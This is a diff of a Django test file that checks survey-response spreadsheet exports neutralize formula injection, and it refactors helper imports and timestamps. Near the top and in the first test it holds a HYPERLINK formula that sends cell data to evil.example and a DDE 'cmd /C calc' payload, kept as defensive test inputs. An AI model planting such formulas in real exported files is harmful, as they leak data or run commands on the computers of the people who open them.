@@ -11,11 +11,11 @@ from django.urls import reverse
 
 from govcx.audit.models import Action, AuditEntry
 from govcx.collection.models import Response
-from govcx.conftest import World, signed_in
 from govcx.reporting.services import collection_open
-from govcx.reporting.tests.helpers import Q2, respond
+from govcx.reporting.tests.helpers import IN_Q2, Q2
 from govcx.surveys.lifecycle import survey_transition
 from govcx.surveys.tests.helpers import make_survey
+from govcx.testing.factories import World, respond, signed_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 CALC = "+cmd|' /C calc'!A0"
@@ -29,8 +29,10 @@ def read(response: Any) -> list[list[str]]:
 
 def test_the_17_column_file_neutralizes_formulas(world: World) -> None:
     survey = survey_transition(survey=make_survey(world), name="publish", by=world.owner)
-    respond(survey, {"trust": "0", "comment": "@SUM(1+1)"}, key="-2+3+cmd|' /C calc'!A0")
-    respond(survey, {"trust": "1", "comment": "-2"}, key="P-2")
+    respond(
+        survey, {"trust": "0", "comment": "@SUM(1+1)"}, key="-2+3+cmd|' /C calc'!A0", when=IN_Q2
+    )
+    respond(survey, {"trust": "1", "comment": "-2"}, key="P-2", when=IN_Q2)
     collection = collection_open(world.service, Q2, by=world.owner)
     detail = collection.details.get()
     url = reverse("reporting:a11-responses", args=[collection.pk, detail.pk])
@@ -42,9 +44,9 @@ def test_the_17_column_file_neutralizes_formulas(world: World) -> None:
 @pytest.mark.skipif(connection.vendor == "postgresql", reason="PostgreSQL never stored such text")
 def test_the_17_column_file_completes_over_text_stored_before_the_rule(world: World) -> None:
     survey = survey_transition(survey=make_survey(world), name="publish", by=world.owner)
-    old = respond(survey, {"trust": "0"}, key="OLD-1")
+    old = respond(survey, {"trust": "0"}, key="OLD-1", when=IN_Q2)
     Response.objects.filter(pk=old.pk).update(answers={"trust": "0", "comment": "bad \ud800"})
-    respond(survey, {"trust": "1", "comment": "later"}, key="NEW-1")
+    respond(survey, {"trust": "1", "comment": "later"}, key="NEW-1", when=IN_Q2)
     collection = collection_open(world.service, Q2, by=world.owner)
     detail = collection.details.get()
     url = reverse("reporting:a11-responses", args=[collection.pk, detail.pk])
@@ -58,7 +60,7 @@ def test_the_legacy_and_collection_files_neutralize_names(world: World) -> None:
     survey = survey_transition(
         survey=make_survey(world, "a11_legacy"), name="publish", by=world.owner
     )
-    respond(survey, {"satisfaction": "5"})
+    respond(survey, {"satisfaction": "5"}, when=IN_Q2)
     collection = collection_open(world.service, Q2, by=world.owner)
     detail = collection.details.get()
     detail.transaction_point = CALC
@@ -93,7 +95,7 @@ def test_a_failure_midway_ends_the_response_file_with_an_error_and_is_audited(
 
     survey = survey_transition(survey=make_survey(world), name="publish", by=world.owner)
     for comment in ("first", "breaks", "third"):
-        respond(survey, {"trust": "0", "comment": comment})
+        respond(survey, {"trust": "0", "comment": comment}, when=IN_Q2)
     real = exports.a11_row
 
     def failing(external_id: str, answers: dict[str, Any], layout: Any) -> list[str]:
